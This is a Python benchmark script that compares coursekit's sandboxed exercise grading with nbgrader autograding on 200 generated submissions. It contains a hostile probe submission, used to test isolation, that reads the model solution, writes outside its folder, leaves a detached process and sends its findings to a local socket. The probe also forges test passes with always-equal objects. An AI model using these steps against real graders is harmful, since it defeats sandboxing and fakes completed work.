"""Benchmark: grade 200 submissions of one exercise with `coursekit grade exercise` (sandbox on)
against nbgrader autograding the same exercise written as an nbgrader notebook.

Run: .venv/bin/python benchmarks/grade_exercises.py [--submissions 200] [--runs 3] [--nbgrader-runs 1]
         [--raw FILE]   (also keep the measurements)   [--render FILE]   (only rewrite the report)
Needs benchmarks/.venv with nbgrader (`make bench` makes it, from benchmarks/peers.txt) and
bubblewrap. Writes benchmarks/grade-exercises.md. Target (issue 7): exercise grading at least
10x faster per submission than nbgrader, with stronger isolation. The defaults take about 12
minutes on 2 cores with a little other load: a coursekit run of 200 takes 1.5 to 2 minutes, the
nbgrader run about 7, the rest 1 (much more under heavy load).

Both tools get the same code variants of the exercise (correct, the untouched starter,
plausible wrong answers, some that raise), and their scores are compared submission by
submission. Runs alternate (ours, nbgrader, ours, ...) so that load on the machine falls
on both alike. Peak memory is measured two ways: the largest single process of the tree
(ru_maxrss from wait4), and the largest sum of PSS over the whole process tree, sampled
from /proc every 100 ms.
"""

from __future__ import annotations

import argparse
import ast
import contextlib
import csv
import json
import os
import platform
import random
import re
import secrets
import shutil
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from datetime import UTC, datetime
from pathlib import Path

import yaml

HERE = Path(__file__).resolve().parent
REPO = HERE.parent
EXERCISE = "gmv-growth"
EX_DIR = REPO / "exercises" / EXERCISE
COURSEKIT = REPO / ".venv" / "bin" / "coursekit"
PEERS = HERE / ".venv" / "bin"
NB = "gmv_growth"  # nbgrader's assignment and notebook name
TARGET = 10.0

# --- the code variants -------------------------------------------------------------------

SOLUTION = (EX_DIR / "solution.py").read_text(encoding="utf-8")
STARTER = (EX_DIR / "starter.py").read_text(encoding="utf-8")


def _edit(old: str, new: str, text: str = SOLUTION) -> str:
    assert old in text, old
    return text.replace(old, new, 1)


def variants() -> dict[str, tuple[float, str, str]]:
    """kind -> (share of the submissions, what it is, the code)."""
    zero_check = '    if before == 0:\n        raise ValueError("growth from a starting value of zero is undefined")\n'
    return {
        "correct": (0.30, "the model solution", SOLUTION),
        "correct-alt": (
            0.12,
            "a correct rewrite: `after / before - 1`, `csv.reader`, a guard with `not before`",
            _edit(
                "return (after - before) / before * 100",
                "return (after / before - 1) * 100",
                _edit(
                    "if before == 0:",
                    "if not before:",
                    _edit(
                        "return {\n"
                        '            row["metric"]: {"period": row["period"], "value": float(row["value_usd_billion"])}\n'
                        "            for row in csv.DictReader(f)\n"
                        "        }",
                        "rows = csv.reader(f)\n        next(rows)\n"
                        '        return {r[0]: {"period": r[1], "value": float(r[2])} for r in rows}',
                    ),
                ),
            ),
        ),
        "correct-print": (
            0.08,
            "correct, and prints while it works",
            _edit("    return a / b\n", '    print("multiple", a, b)\n    return a / b\n'),
        ),
        "starter": (0.15, "the untouched starter (every function raises NotImplementedError)", STARTER),
        "fraction": (
            0.05,
            "growth as a fraction, not a percentage",
            _edit("return (after - before) / before * 100", "return (after - before) / before"),
        ),
        "end-base": (
            0.04,
            "growth divided by the end value",
            _edit("return (after - before) / before * 100", "return (after - before) / after * 100"),
        ),
        "no-zero-check": (0.05, "no ValueError for a zero base (ZeroDivisionError instead)", _edit(zero_check, "")),
        "subtract": (
            0.05,
            "implied_previous subtracts the growth: current × (1 − g/100)",
            _edit("return current / (1 + growth_pct / 100)", "return current * (1 - growth_pct / 100)"),
        ),
        "reversed": (0.04, "multiple with its arguments the wrong way round", _edit("return a / b", "return b / a")),
        "strings": (
            0.04,
            "load_gmv keeps the values as strings",
            _edit('float(row["value_usd_billion"])', 'row["value_usd_billion"]'),
        ),
        "raises-path": (
            0.03,
            "load_gmv ignores its argument and opens a wrong path (FileNotFoundError)",
            _edit('open(path, newline=""', 'open("gmv.csv", newline=""'),
        ),
        "raises-syntax": (
            0.02,
            "a syntax error (a missing colon)",
            _edit("def multiple(a: float, b: float) -> float:", "def multiple(a: float, b: float) -> float"),
        ),
        "raises-import": (
            0.02,
            "imports a module that is not installed",
            _edit("import csv\n", "import csv\nimport gmvtools\n"),
        ),
        "raises-at-end": (
            0.01,
            "correct functions, then a top-level line that raises (FileNotFoundError) after them",
            _edit('\nif __name__ == "__main__":', '\nprint(load_gmv("gmv.csv"))\n\nif __name__ == "__main__":'),
        ),
    }


def make_variants(n: int) -> list[tuple[str, str]]:
    """(kind, code) for n submissions: each kind at least once, in its share, shuffled."""
    kinds = variants()
    counts = {k: max(1, round(share * n)) for k, (share, _, _) in kinds.items()}
    counts["correct"] += n - sum(counts.values())
    assert counts["correct"] >= 1, "too few submissions for every kind"
    picked = [k for k, c in counts.items() for _ in range(c)]
    random.Random(42).shuffle(picked)
    # Each file differs by its first line, as a class's files do: coursekit runs identical files
    # once (exercise_batch reuses the verdict), which would measure that, not grading.
    return [(k, f"# {learner_id(i)}\n{kinds[k][2]}") for i, k in enumerate(picked)]


# --- the nbgrader notebook --------------------------------------------------------------

PYTEST_SHIM = """\
# pytest is not installed in nbgrader's environment; the tests use pytest.approx and
# pytest.raises, so here is a stand-in for the two with pytest's semantics.
import contextlib, math, types

class _Approx:
    def __init__(self, expected, rel=None, abs=None):
        self.expected, self.rel, self.abs = expected, rel, abs
    def __eq__(self, actual):
        if isinstance(actual, bool) or not isinstance(actual, (int, float)):
            return actual == self.expected
        if self.abs is not None and self.rel is None:
            tol = self.abs
        else:
            tol = max((1e-6 if self.rel is None else self.rel) * math.fabs(self.expected),
                      1e-12 if self.abs is None else self.abs)
        return actual == self.expected or math.fabs(actual - self.expected) <= tol
    def __repr__(self):
        return f"approx({self.expected!r})"

@contextlib.contextmanager
def _raises(expected):
    try:
        yield
    except expected:
        return
    raise AssertionError(f"DID NOT RAISE {expected}")

pytest = types.SimpleNamespace(approx=_Approx, raises=_raises)
# the tests' `learner` fixture: here, what the solution cell defined
learner = types.SimpleNamespace(**{k: v for k, v in globals().items() if not k.startswith("_")})
"""


def _cell(kind: str, source: str, cell_id: str, **nbgrader) -> dict:
    cell = {"cell_type": kind, "id": cell_id, "metadata": {}, "source": source}
    if kind == "code":
        cell |= {"execution_count": None, "outputs": []}
    if nbgrader:
        cell["metadata"]["nbgrader"] = {"schema_version": 3, "task": False, "grade_id": cell_id, **nbgrader}
    return cell


def _cases(node: ast.FunctionDef) -> list[tuple]:
    """The argument tuples pytest calls a test with: one empty tuple, or one per case of a
    single ``@pytest.mark.parametrize("a, b", [...])`` (the only decorator carried over)."""
    if not node.decorator_list:
        return [()]
    (deco,) = node.decorator_list
    if not (isinstance(deco, ast.Call) and ast.unparse(deco.func) == "pytest.mark.parametrize"):
        raise SystemExit(f"{node.name}: only @pytest.mark.parametrize is carried over")
    names = [n.strip() for n in ast.literal_eval(deco.args[0]).split(",")]
    assert [a.arg for a in node.args.args] == ["learner", *names], node.name
    return [c if isinstance(c, tuple) else (c,) for c in ast.literal_eval(deco.args[1])]


def test_cells() -> list[tuple[str, str]]:
    """(test name, cell source) for every test pytest runs from the exercise's test files,
    public and hidden: the test function verbatim (without its parametrize decorator), then a
    call with the learner; one cell per case of a parametrized test, as pytest counts them."""
    out = []
    files = yaml.safe_load((EX_DIR / "exercise.yml").read_text(encoding="utf-8"))["files"]
    for name in files["tests"] + files.get("hidden_tests", []):
        source = (EX_DIR / name).read_text(encoding="utf-8")
        tree = ast.parse(source)
        for node in tree.body:
            if isinstance(node, ast.FunctionDef) and node.name.startswith("test_"):
                cases = _cases(node)
                if cases == [()]:
                    assert [a.arg for a in node.args.args] == ["learner"], node.name
                body = ast.get_source_segment(source, node)
                body = body[body.index("def ") :]  # without the decorator
                for i, case in enumerate(cases):
                    call = ", ".join(["learner", *map(repr, case)])
                    test = node.name if case == () else f"{node.name}-{i}"  # a notebook cell id: no brackets
                    out.append((test, f"{body}\n\n\n{node.name}({call})\n"))
            elif (
                isinstance(node, ast.Import)
                and [a.name for a in node.names] == ["pytest"]
                or isinstance(node, ast.Expr)
                and isinstance(node.value, ast.Constant)
            ):
                continue
            else:
                raise SystemExit(f"{name}: line {node.lineno}: only tests and `import pytest` are carried over")
    return out


def source_notebook() -> dict:
    """The exercise as an nbgrader source notebook: the model solution between BEGIN and
    END SOLUTION markers (function bodies only), a locked set-up cell, one test cell per test."""
    lines, marked = SOLUTION.splitlines(), []
    tree = ast.parse(SOLUTION)
    bodies = {}
    for node in tree.body:
        if isinstance(node, ast.FunctionDef):
            first = node.body[1] if isinstance(node.body[0], ast.Expr) else node.body[0]  # after the docstring
            bodies[first.lineno - 1] = node.end_lineno - 1
    i = 0
    main = next(n.lineno - 1 for n in tree.body if isinstance(n, ast.If))  # the __main__ block stays out
    while i < main:
        if i in bodies:
            indent = re.match(r"\s*", lines[i]).group()
            marked += [f"{indent}### BEGIN SOLUTION", *lines[i : bodies[i] + 1], f"{indent}### END SOLUTION"]
            i = bodies[i] + 1
        else:
            marked.append(lines[i])
            i += 1
    summary = (EX_DIR / "exercise.yml").read_text().split("summary: |\n", 1)[1].split("\nhints:", 1)[0]
    cells = [
        _cell(
            "markdown",
            "# Growth and scale from reported GMV\n\n" + "\n".join(line[2:] for line in summary.splitlines()),
            "intro",
        ),
        _cell("code", "\n".join(marked).rstrip() + "\n", "solution", solution=True, grade=False, locked=False),
        _cell("code", PYTEST_SHIM, "setup", solution=False, grade=False, locked=True),
    ]
    cells += [_cell("code", src, name, solution=False, grade=True, locked=True, points=1) for name, src in test_cells()]
    return {
        "cells": cells,
        "metadata": {
            "kernelspec": {"display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"},
            "language_info": {"name": "python"},
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }


def peer_env(root: Path) -> dict[str, str]:
    env = {
        k: v
        for k, v in os.environ.items()
        if k not in ("VIRTUAL_ENV", "PYTHONPATH", "PYTHONHOME") and not k.startswith(("COURSEKIT_", "JUPYTER"))
    }
    env["PATH"] = f"{PEERS}{os.pathsep}{env.get('PATH', '')}"
    for var, sub in (
        ("JUPYTER_CONFIG_DIR", "jupyter-config"),
        ("JUPYTER_DATA_DIR", "jupyter-data"),
        ("JUPYTER_RUNTIME_DIR", "jupyter-runtime"),
        ("IPYTHONDIR", "ipython"),
    ):
        (root / sub).mkdir(exist_ok=True)
        env[var] = str(root / sub)
    return env


def make_nbgrader_template(root: Path, codes: list[tuple[str, str]]) -> Path:
    """A course directory with the generated assignment and every submission, not yet graded."""
    course = root / "nbgrader-course"
    (course / "source" / NB / "data").mkdir(parents=True)
    (course / "nbgrader_config.py").write_text(
        f"c = get_config()\nc.CourseDirectory.root = {str(course)!r}\nc.CourseDirectory.course_id = 'bench'\n"
        # timestamps in the log, to time each notebook
        "c.Application.log_format = '%(asctime)s.%(msecs)03d [%(name)s | %(levelname)s] %(message)s'\n"
        "c.Application.log_datefmt = '%H:%M:%S'\n"
    )
    (course / "source" / NB / f"{NB}.ipynb").write_text(json.dumps(source_notebook(), indent=1))
    shutil.copyfile(EX_DIR / "data" / "gmv.csv", course / "source" / NB / "data" / "gmv.csv")
    proc = subprocess.run(
        [str(PEERS / "nbgrader"), "generate_assignment", NB],
        cwd=course,
        env=peer_env(root),
        capture_output=True,
        text=True,
    )
    if proc.returncode != 0:
        raise SystemExit(f"nbgrader generate_assignment failed:\n{proc.stderr[-3000:]}")
    released = json.loads((course / "release" / NB / f"{NB}.ipynb").read_text())
    solution = [c for c in released["cells"] if c["metadata"].get("nbgrader", {}).get("solution")]
    assert len(solution) == 1 and "### BEGIN SOLUTION" not in "".join(solution[0]["source"])
    for i, (_, code) in enumerate(codes):
        solution[0]["source"] = code
        folder = course / "submitted" / learner_id(i) / NB
        folder.mkdir(parents=True)
        (folder / f"{NB}.ipynb").write_text(json.dumps(released, indent=1))
    return course


def learner_id(i: int) -> str:
    return f"s{i:04d}"


# --- what a hostile submission can do: one probe, graded once by each tool (not timed) ----

PROBE = '''\
"""A hostile submission: it tries what a grader should not allow, then forges its answers."""
import os, socket, subprocess, sys

_seen = []
try:  # read the instructor's model solution
    _seen.append("read the model solution (%d bytes)" % len(open({solution!r}).read()))
except OSError as exc:
    _seen.append("no read: " + type(exc).__name__)
try:  # leave a file outside its own folder
    with open({marker!r}, "w") as f:
        f.write("written by the submission")
except OSError:
    pass
try:  # leave a process running after the grading
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", {token!r}], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except OSError:
    pass
try:  # send what it found over the network
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
        s.sendall("; ".join(_seen).encode())
except OSError:
    pass


class _Equal(float):  # equal to whatever the tests expect
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__


class _Table(dict):  # has every key, nine rows, and values that are "floats"
    def __missing__(self, key):
        return _Equal(1.0)

    def __contains__(self, key):
        return True

    def __len__(self):
        return 9

    def values(self):
        return [_Equal(1.0)] * 9


def growth_rate(before, after):
    if not before:
        raise ValueError("zero")
    return _Equal(1.0)


def implied_previous(current, growth_pct):
    return _Equal(1.0)


def multiple(a, b):
    return _Equal(1.0)


def load_gmv(path="data/gmv.csv"):
    return _Table()
'''


def _listener() -> tuple[int, list[str]]:
    server = socket.create_server(("127.0.0.1", 0))
    received: list[str] = []

    def serve() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                with contextlib.suppress(OSError):
                    received.append(conn.recv(65536).decode(errors="replace"))

    threading.Thread(target=serve, daemon=True).start()
    return server.getsockname()[1], received


def _lingering(token: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if token.encode() in Path(f"/proc/{entry}/cmdline").read_bytes().split(b"\0"):
                    found.append(int(entry))
            except OSError:
                continue
    return found


def probe(root: Path, template: Path) -> dict[str, dict]:
    """Grade the hostile submission with each tool; what it managed to do under each."""
    port, received = _listener()
    results = {}
    for tool in ("coursekit", "nbgrader"):
        token = f"coursekit-bench-probe-{secrets.token_hex(6)}"
        marker = root / f"escaped-{tool}.txt"
        code = PROBE.format(solution=str(EX_DIR / "solution.py"), marker=str(marker), token=token, port=port)
        before = len(received)
        if tool == "coursekit":
            folder = root / "probe-ours"
            folder.mkdir()
            (folder / "probe.py").write_text(code)
            proc = subprocess.run(
                [
                    str(COURSEKIT),
                    "grade",
                    "exercise",
                    EXERCISE,
                    str(folder),
                    "--gradebook",
                    str(root / "probe.sqlite"),
                    "--json",
                    "--root",
                    str(REPO),
                ],
                cwd=REPO,
                capture_output=True,
                text=True,
            )
            o = json.loads(proc.stdout.splitlines()[0])
            score, sandbox_used = f"{o['passed']}/{o['total']}", o["sandbox"]
        else:
            course = root / "probe-nbgrader"
            shutil.copytree(template, course, symlinks=True, ignore=shutil.ignore_patterns("submitted"))
            cfg = course / "nbgrader_config.py"
            cfg.write_text(cfg.read_text().replace(repr(str(template)), repr(str(course))))
            nb = json.loads((course / "release" / NB / f"{NB}.ipynb").read_text())
            next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("solution"))["source"] = code
            (course / "submitted" / "probe" / NB).mkdir(parents=True)
            (course / "submitted" / "probe" / NB / f"{NB}.ipynb").write_text(json.dumps(nb))
            env = peer_env(root)
            for argv in (["autograde", NB], ["export", "--to", str(course / "grades.csv")]):
                proc = subprocess.run(
                    [str(PEERS / "nbgrader"), *argv], cwd=course, env=env, capture_output=True, text=True
                )
                if proc.returncode != 0:
                    raise SystemExit(f"nbgrader {argv[0]} (probe) failed:\n{proc.stderr[-3000:]}")
            with open(course / "grades.csv", newline="") as f:
                row = next(csv.DictReader(f))
            score, sandbox_used = f"{float(row['raw_score']):.0f}/{float(row['max_score']):.0f}", "none"
        time.sleep(1.0)
        alive = _lingering(token)
        for pid in alive:  # the probe's own sleeper, found by its unique token
            os.kill(pid, signal.SIGKILL)
        time.sleep(0.2)
        drain()
        results[tool] = {
            "score": score,
            "sandbox": sandbox_used,
            "wrote": marker.exists(),
            "network": received[before:],
            "alive": len(alive),
        }
    return results


# --- measuring -----------------------------------------------------------------------------


class TreeSampler:
    """Samples every descendant of this process every `interval` s: the largest sum of PSS
    (proportional set size: shared pages split between the processes sharing them) seen at
    once, the largest number of processes, and the names of the processes seen. This
    process is a subreaper (see `measure`), so what the command orphans stays in the tree."""

    def __init__(self, interval: float = 0.1) -> None:
        self.pid, self.interval = os.getpid(), interval
        self.peak_kb = 0
        self.peak_procs = 0
        self.names: Counter[str] = Counter()
        self._seen: set[int] = set()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self) -> TreeSampler:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join()

    def _run(self) -> None:
        while not self._stop.is_set():
            self.sample()
            self._stop.wait(self.interval)

    def sample(self) -> None:
        children: dict[int, list[int]] = {}
        comm: dict[int, str] = {}
        for entry in os.listdir("/proc"):
            if not entry.isdigit():
                continue
            try:
                stat = Path(f"/proc/{entry}/stat").read_text()
            except OSError:
                continue
            name, rest = stat[stat.index("(") + 1 : stat.rindex(")")], stat[stat.rindex(")") + 2 :].split()
            children.setdefault(int(rest[1]), []).append(int(entry))
            comm[int(entry)] = name
        tree, stack = [], list(children.get(self.pid, []))
        while stack:
            pid = stack.pop()
            tree.append(pid)
            stack.extend(children.get(pid, []))
        total = 0
        for pid in tree:
            try:
                for line in Path(f"/proc/{pid}/smaps_rollup").read_text().splitlines():
                    if line.startswith("Pss:"):
                        total += int(line.split()[1])
                        break
            except (OSError, ValueError):
                continue
            if pid not in self._seen:
                self._seen.add(pid)
                self.names[comm.get(pid, "?")] += 1
        self.peak_kb = max(self.peak_kb, total)
        self.peak_procs = max(self.peak_procs, len(tree))


def become_subreaper() -> None:
    """Orphans of the commands measured here are re-parented to this process, not to init.

    An orphan's CPU time then reaches this process's rusage when it is reaped here. Processes
    killed with their pid namespace are reaped by the kernel and never reach it: the whole
    machine's busy time (machine_busy) counts those."""
    import ctypes

    if ctypes.CDLL(None, use_errno=True).prctl(36, 1, 0, 0, 0) != 0:  # PR_SET_CHILD_SUBREAPER
        raise SystemExit("prctl(PR_SET_CHILD_SUBREAPER) failed")


def wait_all(pid: int, grace: float = 3.0) -> tuple[int, float, int]:
    """Wait for pid, then reap every orphan it left (up to `grace` s for the last ones):
    (exit status of pid, CPU seconds of it and all, largest ru_maxrss in KB)."""
    _, status, usage = os.wait4(pid, 0)
    cpu, rss = usage.ru_utime + usage.ru_stime, usage.ru_maxrss
    deadline = time.monotonic() + grace
    while time.monotonic() < deadline:
        try:
            other, _, ru = os.wait4(-1, os.WNOHANG)
        except ChildProcessError:
            break
        if other == 0:
            time.sleep(0.02)
            continue
        cpu, rss = cpu + ru.ru_utime + ru.ru_stime, max(rss, ru.ru_maxrss)
    return status, cpu, rss


def drain() -> None:
    """Reap what earlier, unmeasured commands left, so that it is not counted in the next one."""
    while True:
        try:
            if os.wait4(-1, os.WNOHANG)[0] == 0:
                return
        except ChildProcessError:
            return


def machine_busy() -> float:
    """CPU seconds the whole machine has spent not idle since boot (every core, the kernel's own
    threads included), from /proc/stat."""
    fields = [int(x) for x in Path("/proc/stat").read_text().split("\n", 1)[0].split()[1:]]
    return (sum(fields[:8]) - fields[3] - fields[4]) / os.sysconf("SC_CLK_TCK")  # less idle and iowait


def measure(argv: list[str], cwd: Path, env: dict[str, str] | None, log: Path) -> dict:
    """Run argv; wall time, CPU time and peak memory of it and everything it started."""
    drain()
    load = os.getloadavg()[0]
    with open(log, "wb") as out, open(log.with_suffix(".err"), "wb") as err:
        start, busy = time.perf_counter(), machine_busy()
        with TreeSampler() as sampler:
            proc = subprocess.Popen(argv, cwd=cwd, env=env, stdin=subprocess.DEVNULL, stdout=out, stderr=err)
            status, cpu, rss = wait_all(proc.pid)
        wall, busy = time.perf_counter() - start, machine_busy() - busy
    proc.returncode = os.waitstatus_to_exitcode(status)
    return {
        "wall": wall,
        "cpu": cpu,
        "machine_cpu": busy,
        "maxrss_kb": rss,
        "tree_pss_kb": sampler.peak_kb,
        "procs": sampler.peak_procs,
        "names": sampler.names,
        "code": proc.returncode,
        "load": (load + os.getloadavg()[0]) / 2,
        "stdout": log.read_text(errors="replace"),
        "stderr": log.with_suffix(".err").read_text(errors="replace"),
    }


def run_ours(root: Path, subs: Path, r: int, jobs: int) -> tuple[dict, dict[str, dict]]:
    book = root / f"ours{r}.sqlite"
    res = measure(
        [
            str(COURSEKIT),
            "grade",
            "exercise",
            EXERCISE,
            str(subs),
            "--gradebook",
            str(book),
            "--json",
            "--jobs",
            str(jobs),
            "--root",
            str(REPO),
        ],
        REPO,
        None,
        root / f"ours{r}.log",
    )
    if res["code"] != 0:
        raise SystemExit(f"coursekit grade exercise failed (exit {res['code']}):\n{res['stderr'][-3000:]}")
    outcomes = {o["learner"]: o for o in map(json.loads, res["stdout"].splitlines())}
    if any(o["sandbox"] != "bwrap" for o in outcomes.values()) or "warning" in res["stderr"]:
        raise SystemExit(f"the sandbox was not bubblewrap:\n{res['stderr'][-3000:]}")
    if not res["names"]["bwrap"]:
        raise SystemExit("no bwrap process was seen under the grader")
    if any(o.get("run", "graded") != "graded" for o in outcomes.values()):  # no "run": a version that ran every one
        raise SystemExit("a submission was not run (reused or unchanged): the benchmark would not measure grading")
    return res, outcomes


def run_nbgrader(root: Path, template: Path, r: int) -> tuple[dict, dict[str, float]]:
    course = root / f"nbgrader-run{r}"
    shutil.copytree(template, course, symlinks=True)
    cfg = course / "nbgrader_config.py"
    cfg.write_text(cfg.read_text().replace(repr(str(template)), repr(str(course))))
    env = peer_env(root)
    res = measure([str(PEERS / "nbgrader"), "autograde", NB], course, env, root / f"nbgrader{r}.log")
    if res["code"] != 0:
        raise SystemExit(f"nbgrader autograde failed (exit {res['code']}):\n{res['stderr'][-3000:]}")
    proc = subprocess.run(
        [str(PEERS / "nbgrader"), "export", "--to", str(course / "grades.csv")],
        cwd=course,
        env=env,
        capture_output=True,
        text=True,
    )
    if proc.returncode != 0:
        raise SystemExit(f"nbgrader export failed:\n{proc.stderr[-3000:]}")
    with open(course / "grades.csv", newline="") as f:
        scores = {row["student_id"]: float(row["raw_score"]) for row in csv.DictReader(f)}
    shutil.rmtree(course)
    res["per_notebook_ms"] = notebook_times(res["stderr"])
    return res, scores


def notebook_times(log: str) -> list[float]:
    """Each submission's time in nbgrader's log: from one student's start to the next's, and
    from the last student's start to its last line."""
    stamps, last = [], None
    for line in log.splitlines():
        m = re.match(r"(\d\d):(\d\d):(\d\d)\.(\d{3}) \[AutogradeApp", line)
        if not m:
            continue
        t = int(m[1]) * 3600 + int(m[2]) * 60 + int(m[3]) + int(m[4]) / 1000
        if last is not None and t < last:  # past midnight
            t += 86400
        last = t
        if "Creating/updating student with ID" in line:
            stamps.append(t)
    if last is not None:
        stamps.append(last)
    return [(b - a) * 1000 for a, b in zip(stamps, stamps[1:])]


# --- where the time goes: the fixed start-up each tool pays per submission --------------

KERNEL_START_STOP = """\
from jupyter_client.manager import start_new_kernel
km, kc = start_new_kernel(kernel_name="python3")
kc.execute_interactive("pass", timeout=60)
kc.stop_channels()
km.shutdown_kernel(now=True)
"""


def cpu_ms(argv: list[str], env: dict[str, str] | None = None) -> float:
    """CPU time (user + system, the process and its descendants) of a command, in ms."""
    proc = subprocess.Popen(
        argv, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    status, cpu, _ = wait_all(proc.pid, grace=0.5)
    if os.waitstatus_to_exitcode(status) != 0:
        raise SystemExit(f"{argv[:3]}... failed")
    return cpu * 1000


def grade_one_ms(exercise, file: Path, times: int = 3) -> float:
    """CPU time of everything one `grader.grade()` starts (its share of the fork server, the
    trusted pytest process, the sandbox and the learner's processes), in ms: what one
    submission costs on its own. The server's children are counted when the server ends, so:
    a server that grades `times` submissions, less one that grades none, per submission."""
    import resource

    from coursekit.exercise import grader, trusted_server

    def server_cpu(n: int) -> float:
        trusted_server.stop_fork_server()
        drain()
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        if trusted_server.shared_fork_server() is None:
            raise SystemExit("the grading fork server did not start")
        for _ in range(n):
            if grader.grade(exercise, file).sandbox != "bwrap":
                raise SystemExit("grade() did not use bubblewrap")
        trusted_server.stop_fork_server()
        drain()
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        return after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime

    return max(0.0, server_cpu(times) - server_cpu(0)) * 1000 / times


def forked_session_ms(tests: Path, sessions: int = 5) -> float:
    """CPU of one trusted pytest session with one empty test, forked from grade()'s warm server:
    a server that runs `sessions` of them, less one that runs none, per session, in ms."""
    import resource

    from coursekit.exercise import forkserver

    env = {k: v for k, v in os.environ.items() if not k.startswith(("COURSEKIT_", "PYTEST_"))}
    env |= {"PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1", "PYTHONDONTWRITEBYTECODE": "1"}
    args = [
        "-p",
        "no:cacheprovider",
        "-c",
        str(tests / "pytest.ini"),
        "--rootdir",
        str(tests),
        "--import-mode=importlib",
        "-q",
        "--no-header",
        str(tests / "test_nothing.py"),
    ]

    def server_cpu(n: int) -> float:
        drain()
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        with forkserver.ForkServer(preload=("coursekit.exercise.plugin",)) as server:
            for _ in range(n):
                timed_out, code = server.run(args, ["coursekit.exercise.plugin"], tests, tests / "log.txt", env, 60)
                if timed_out or code != 0:
                    raise SystemExit(f"a forked pytest session failed: {(tests / 'log.txt').read_text()[-2000:]}")
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        return after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime

    return max(0.0, server_cpu(sessions) - server_cpu(0)) * 1000 / sessions


def startup_costs(root: Path, reps: int = 5) -> dict[str, float]:
    """The start-up each tool pays per submission, and one whole submission graded on its own,
    measured in turns (so that the machine's load falls on all alike); medians in ms of CPU."""
    from coursekit.content.catalog import Layout, load_catalog
    from coursekit.exercise import sandbox  # the namespaces coursekit's sandbox asks for

    exercise = load_catalog(Layout(REPO)).exercises[EXERCISE]
    py, peer_py = str(REPO / ".venv" / "bin" / "python"), str(PEERS / "python")
    bwrap = [
        shutil.which("bwrap") or "bwrap",
        "--ro-bind",
        "/",
        "/",
        "--dev",
        "/dev",
        "--proc",
        "/proc",
        "--tmpfs",
        "/tmp",
        *sandbox._namespace_args(),
        "--die-with-parent",
        "--new-session",
        "--clearenv",
        "--",
        py,
        "-I",
        "-B",
        "-c",
        "pass",
    ]
    tests = root / "empty-session"
    tests.mkdir()
    (tests / "test_nothing.py").write_text("def test_nothing():\n    pass\n")
    (tests / "pytest.ini").write_text("[pytest]\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith(("COURSEKIT_", "PYTEST_"))}
    env |= {"PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1", "PYTHONDONTWRITEBYTECODE": "1"}
    session = [
        py,
        "-m",
        "pytest",
        "-p",
        "coursekit.exercise.plugin",
        "-p",
        "no:cacheprovider",
        "-c",
        str(tests / "pytest.ini"),
        "--rootdir",
        str(tests),
        "--import-mode=importlib",
        "-q",
        "--no-header",
        str(tests / "test_nothing.py"),
    ]  # the trusted process as grade() starts it, with one empty test
    builtins = "from _pytest.config import get_config; get_config()"  # pytest and its built-in plugins
    agent = "import json, select, socket, ctypes, resource, importlib.util"  # what proxy.py's agent imports
    measures = {
        "forked": lambda: forked_session_ms(tests),
        "python": lambda: cpu_ms([py, "-I", "-c", "pass"]),
        "session": lambda: cpu_ms(session, env),
        "pytest": lambda: cpu_ms([py, "-c", builtins]),
        "plugin": lambda: cpu_ms([py, "-c", f"import coursekit.exercise.plugin; {builtins}"]),
        "bwrap": lambda: cpu_ms(bwrap),
        "agent": lambda: cpu_ms([py, "-I", "-B", "-c", agent]),
        "grade_solution": lambda: grade_one_ms(exercise, EX_DIR / "solution.py"),
        "grade_starter": lambda: grade_one_ms(exercise, EX_DIR / "starter.py"),
    }
    drain()
    got: dict[str, list[float]] = {k: [] for k in measures}
    for _ in range(reps):
        for key, fn in measures.items():
            got[key].append(fn())
    costs = {k: statistics.median(v) for k, v in got.items()}
    check = "import sys, coursekit.exercise.plugin; sys.exit('coursekit.content.catalog' in sys.modules)"
    costs["plugin_loads_content"] = float(subprocess.run([py, "-c", check]).returncode == 1)
    peer = peer_env(root)
    costs["client"] = statistics.median(
        cpu_ms([peer_py, "-c", "import jupyter_client.manager"], peer) for _ in range(3)
    )
    costs["kernel"] = statistics.median(cpu_ms([peer_py, "-c", KERNEL_START_STOP], peer) for _ in range(3))
    return costs


# --- the report ----------------------------------------------------------------------------


def spread(values: list[float], fmt: str = "{:.1f}") -> str:
    med = statistics.median(values)
    if len(values) == 1:
        return fmt.format(med) + " (1 run)"
    return f"{fmt.format(med)} ({fmt.format(min(values))} to {fmt.format(max(values))})"


def machine() -> str:
    cpu = "?"
    with contextlib.suppress(OSError, StopIteration):
        cpu = next(
            line.split(":", 1)[1].strip()
            for line in Path("/proc/cpuinfo").read_text().splitlines()
            if line.startswith("model name")
        )
    mem = os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES") / 2**30
    return f"{cpu}, {os.cpu_count()} cores, {mem:.0f} GiB"


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--submissions", type=int, default=200)
    ap.add_argument(
        "--runs",
        type=int,
        default=3,
        help="runs of coursekit (default 3: one run of 200 takes 1.5 to 2 minutes on 2 cores)",
    )
    ap.add_argument(
        "--nbgrader-runs",
        type=int,
        default=1,
        help="runs of nbgrader (default 1: one run of 200 takes about 7 minutes)",
    )
